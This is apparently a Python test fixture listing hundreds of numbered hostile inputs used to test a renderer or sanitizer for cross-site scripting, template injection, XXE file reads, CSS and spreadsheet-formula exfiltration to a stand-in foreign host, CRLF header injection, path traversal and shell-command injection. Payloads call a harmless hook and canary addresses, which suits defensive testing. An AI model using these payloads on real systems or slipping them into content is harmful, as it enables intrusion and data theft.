"""Texts that try to run as scripts, to break a page, or to break a file that is written of them.

Written for this project from the known classes. ``HOOK`` becomes a call of ``__pwned`` with the vector's
number, ``CANARY`` an address of the site that nobody else asks for, ``ABROAD`` one of another host.
"""

from typing import NamedTuple

from hostile_markup import ENCODINGS, HANDLERS, MUTATION, SVG, TAGS

HOOK_NAME = "__pwned"
CANARY_PATH = "/canary/"
FOREIGN_HOST = "abroad.invalid"


class Vector(NamedTuple):
    """One hostile text; ``number`` is what it calls the hook with."""

    number: int
    kind: str
    text: str


_ATTRIBUTES = (
    '"><script>HOOK</script>',
    "'><script>HOOK</script>",
    "><script>HOOK</script>",
    '" onmouseover="HOOK',
    "' onmouseover='HOOK",
    " onmouseover=HOOK x=",
    '" autofocus onfocus="HOOK" x="',
    "' autofocus onfocus='HOOK' x='",
    "x onfocus=HOOK autofocus tabindex=1",
    "` onmouseover=`HOOK`",
    '"/><img src=x onerror=HOOK><x y="',
    "&quot;><img src=x onerror=HOOK>",
    '\\"><img src=x onerror=HOOK>',
    "&#34; onmouseover=HOOK x=&#34;",
    '" style="position:fixed;inset:0;background:url(CANARY)" x="',
    '" lang="x" dir="rtl" class="visually-hidden" hidden x="',
    '" srcdoc="<script>HOOK</script>" x="',
    '" accesskey="x" onclick="HOOK" x="',
    '" formaction="javascript:HOOK" x="',
    '" type="image" src="CANARY" x="',
    '" id="main" data-link="1" x="',
    "=\"'><svg/onload=HOOK>",
)
_TEMPLATES = (
    "{{7*7}}HOOK",
    "{{ HOOK }}",
    "{% include '/etc/passwd' %}",
    "{{ config.__class__.__init__.__globals__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{constructor.constructor('HOOK')()}}",
    "${7*7}",
    "${HOOK}",
    "`${HOOK}`",
    "<%= 7*7 %>",
    "<%= HOOK %>",
    "#{7*7}",
    "#{HOOK}",
    "*{7*7}@(1+1)",
    "{{{HOOK}}}",
    "[[HOOK]]",
    "{# {{ HOOK }} #}",
    "{% raw %}<script>HOOK</script>{% endraw %}",
    "{%raw%}{{'<img src=x onerror=HOOK>'|safe}}",
    "%(title)s %s %d {0} {title.__class__}",
    "$(touch /tmp/pwned) `id` ; id | id && id",
)
_URLS = (
    "javascript:HOOK",
    "JaVaScRiPt:HOOK",
    "java\tscript:HOOK",
    "java\nscript:HOOK",
    "java\r\nscript:HOOK",
    "\x01javascript:HOOK",
    " javascript:HOOK",
    "\u00a0javascript:HOOK",
    "javascript&colon;HOOK",
    "&#106;avascript:HOOK",
    "&#x6A&#x61vascript:HOOK",
    "jav&Tab;ascript:HOOK",
    "javascript\uff1aHOOK",
    "javascript://https://paper.example/%0aHOOK",
    "javascript://%0aHOOK",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+HOOK//'>",
    "javascript:void(HOOK)",
    "%6aavascript:HOOK",
    "view-source:javascript:HOOK",
    "feed:javascript:HOOK",
    "data:text/html,<script>HOOK</script>",
    "data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKDEpPC9zY3JpcHQ+",
    "DATA:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='HOOK'/>",
    "data:application/javascript,HOOK",
    "vbscript:HOOK",
    "VbScRiPt:msgbox(1)",
    "livescript:HOOK",
    "blob:https://paper.example/HOOK",
    "filesystem:https://paper.example/temporary/HOOK",
    "file:///etc/passwd",
    "jar:https://paper.example/x!/y",
    "//ABROAD/x",
    "/\\ABROAD/x",
    "\\\\ABROAD\\x",
    "///ABROAD/x",
    "https:ABROAD/x",
    "https://paper.example@ABROAD/x",
    'https://paper.example" onmouseover="HOOK',
    "https://paper.example/'><script>HOOK</script>",
    "https://paper.example/x?y=</script><script>HOOK</script>",
    "https://paper.example/#javascript:HOOK",
    "https://javascript:HOOK@paper.example/",
    "https://paper.example/\u202ehtml.exe",
    "https://p\u0430per.example/x",
    'http://[::1"><script>HOOK</script>]/',
    "https://paper.example/%00%0d%0aSet-Cookie:a=b",
    "ftp://paper.example/x",
    "mailto:a@paper.example?subject=<script>HOOK</script>",
    "tel:+1-HOOK",
    "ms-word:ofe|u|https://ABROAD/x.docx",
    "search-ms:query=x&crumb=location:\\\\ABROAD\\x",
    "intent://ABROAD/#Intent;scheme=http;end",
)
_STYLES = (
    "<style>@import url(CANARY);</style>",
    "<style>body{background:url(//ABROAD/b.png)}</style>",
    "<style>@font-face{font-family:x;src:url(CANARY)}*{font-family:x}</style>",
    "<style>input[value^=a]{background:url(CANARY)}</style>",
    "<div style=background:url(CANARY)>x</div>",
    '<div style="width:expression(HOOK)">x</div>',
    "<div style='-moz-binding:url(CANARY#x)'>x</div>",
    "<div style='behavior:url(CANARY)'>x</div>",
    "<p style='position:fixed;inset:0;z-index:9999;background:#fff'>Sign in again</p>",
    "</style><script>HOOK</script>",
    "*/</style><img src=x onerror=HOOK>/*",
    "x;background:url(CANARY)",
    "<style>main,header,footer{display:none}</style>",
    "\\3c script\\3eHOOK",
)
_FORMS = (
    "<form action=CANARY><input name=password></form>",
    "<form action='javascript:HOOK'><input type=submit></form>",
    "<form id=search action=//ABROAD/><input name=q></form>",
    "</form><form action=CANARY>",
    "<input type=image src=CANARY formaction=CANARY>",
    "<button form=search formaction=CANARY>x</button>",
    "<input form=search type=hidden name=q value=x>",
    "<isindex action='javascript:HOOK' type=submit>",
    "<a href=/sign-out ping=CANARY>x</a>",
    "<a href=CANARY download>x</a>",
    "<a target=_blank href=//ABROAD/>x</a>",
    "<a href=# rel=opener target=_top>x</a>",
)
_CLOBBERING = (
    "<a id=htmx href=CANARY></a>",
    "<form id=document><input name=cookie></form>",
    "<form name=body><input id=firstChild></form>",
    "<img name=getElementById>",
    "<a id=config><a id=config name=extensions href=CANARY>",
    "<form id=q><input name=form></form>",
    "<div id=hits></div><div id=status></div><div id=pager></div>",
    "<iframe name=trustedTypes srcdoc='<a id=createPolicy>'></iframe>",
    "<output id=told name=attributes></output>",
    "<embed name=currentScript><object id=scripts></object>",
    '"id":"__proto__","constructor":{"prototype":{"x":"HOOK"}}',
    "<main id=main></main><header></header><footer></footer>",
)
_SCRIPTS = (
    "</script><script>HOOK</script>",
    "</SCRIPT\n><script>HOOK</script>",
    "<!--<script>HOOK",
    "<!--<script></script><script>HOOK</script>",
    '"};HOOK;//',
    "';HOOK;//",
    "\\';HOOK;//",
    '"-HOOK-"',
    "\u2028HOOK//",
    "]]></script><script>HOOK</script>",
    '{"@context":"https://schema.org"}</script><img src=x onerror=HOOK>',
    "*/HOOK/*",
)
_HTMX = (
    "<div hx-get=CANARY hx-trigger=load></div>",
    "<div data-hx-get=CANARY data-hx-trigger=load></div>",
    "<div hx-get=//ABROAD/ hx-trigger=load></div>",
    "<div hx-on:click=HOOK hx-on::load=HOOK></div>",
    "<div hx-on:htmx:after:init=HOOK></div>",
    "<div hx-get=/about hx-vals='js:{a:HOOK}' hx-trigger=load></div>",
    "<div hx-get=/about hx-headers='js:{a:HOOK}' hx-trigger=load></div>",
    "<div hx-trigger='load[HOOK]' hx-get=/about></div>",
    "<div hx-swap-oob=true id=main>x</div>",
    "<div id=hits hx-swap-oob='outerHTML:body'>x</div>",
    "<hx-partial hx-target=body><script>HOOK</script></hx-partial>",
    "<template hx type=partial hx-target=body><img src=x onerror=HOOK></template>",
    "<div hx-confirm='js:HOOK' hx-post=/feeds/poll hx-trigger=load></div>",
    '<div hx-config=\'{"mode":"cors"}\' hx-get=//ABROAD/ hx-trigger=load></div>',
    '<meta name=htmx-config content=\'{"mode":"cors","extensions":"x"}\'>',
    "<body hx-boost=true hx-history-elt>",
    '" hx-get="CANARY" hx-trigger="load" x="',
)
_FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://ABROAD/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "'=1+1",
    '"=1+1',
    '"";=1+1',
    "x;=1+1;",
    "x\t=1+1\t",
    'x","=1+1","',
    "x\n=1+1",
    "x,=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "%0A=1+1",
    '=IMPORTXML(CONCAT("https://ABROAD/",A1),"//a")',
    '=WEBSERVICE("https://ABROAD/")',
)
_XML = (
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "&e;&lol9;&undefined;",
    "]]>",
    "<![CDATA[ ]]]]><![CDATA[> <x>",
    "<?xml-stylesheet href='CANARY'?>",
    "</title></entry></feed><script>HOOK</script>",
    "</outline></body></opml>",
    "\x00\x01\x08\x0b\x0c\x1f\ufffe\uffff",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>HOOK</x:script>",
    "<xi:include href='file:///etc/passwd' xmlns:xi='http://www.w3.org/2001/XInclude'/>",
    "<xsl:script>HOOK</xsl:script>",
    "%remote;&#0;&#xD800;&#x110000;",
)
_LINES = (
    "x\r\nSet-Cookie: a=b",
    "x\r\n\r\n<script>HOOK</script>",
    "x%0d%0aLocation:%20//ABROAD/",
    "x\nContent-Type: text/html\n\n<script>HOOK</script>",
    "\u560d\u560aSet-Cookie:a=b",
    'x"; filename="y.html',
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "report.pdf\x00.html",
    "con.html",
    "T2  - x\r\nER  - \r\nTY  - NEWS",
    "x}\n@article{y, title={HOOK}",
    "| a | b |\n|---|---|\n# x\n![x](CANARY)",
    "[x](javascript:HOOK)",
    "![x](CANARY)<CANARY>",
    "```\n<script>HOOK</script>\n```",
    "\\input{/etc/passwd} \\write18{id} $\\href{javascript:HOOK}{x}$",
)
_SIZES = (
    "x" * 3_000 + "<img src=x onerror=HOOK>",
    "<" * 2_000,
    "&" * 2_000 + "lt;script&gt;HOOK",
    "<b>" * 500 + "HOOK",
    "\"'" * 500 + "><svg/onload=HOOK>",
    "z" + "\u0351\u036b\u0489" * 300 + "<img src=x onerror=HOOK>",
    "\u0627\ufdfd" * 200 + "<img src=x onerror=HOOK>",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 50 + "<img src=x onerror=HOOK>",
    "(" * 400 + "HOOK" + ")" * 400,
    "[" * 400 + "{" * 400 + "HOOK",
)

_KINDS = {
    "tags": TAGS,
    "event handlers": HANDLERS,
    "SVG and MathML": SVG,
    "mutation": MUTATION,
    "encodings": ENCODINGS,
    "attributes": _ATTRIBUTES,
    "templates": _TEMPLATES,
    "addresses": _URLS,
    "styles": _STYLES,
    "forms": _FORMS,
    "clobbering": _CLOBBERING,
    "scripts": _SCRIPTS,
    "htmx": _HTMX,
    "formulas": _FORMULAS,
    "XML": _XML,
    "lines and names": _LINES,
    "sizes": _SIZES,
}


def _filled(number: int, text: str) -> str:
    call = f"{HOOK_NAME}({number})"
    filled = text.replace("HOOK", call).replace("CANARY", f"{CANARY_PATH}{number}")
    return filled.replace("ABROAD", f"{FOREIGN_HOST}/{number}" if "//ABROAD/" not in text else FOREIGN_HOST)


VECTORS: tuple[Vector, ...] = tuple(
    Vector(number, kind, _filled(number, text))
    for number, (kind, text) in enumerate(
        ((kind, text) for kind, texts in _KINDS.items() for text in texts), 1
    )
)


def of_kind(*kinds: str) -> list[Vector]:
    """The vectors of these kinds."""
    return [vector for vector in VECTORS if vector.kind in kinds]


def body_of(vector: Vector) -> str:
    """A text with ``vector`` alone in a paragraph, in a sentence, in a quotation and beside a figure."""
    return (
        f"The council met on Tuesday about item {vector.number} and voted to close the old bridge.\n\n"
        f"{vector.text}\n\n"
        f"Its members heard of {vector.text} for the first time, the mayor of the town said on Monday.\n\n"
        f"“We never wanted {vector.text} here,” said Ann {vector.text} Bee, who expects 12 per cent more."
    )
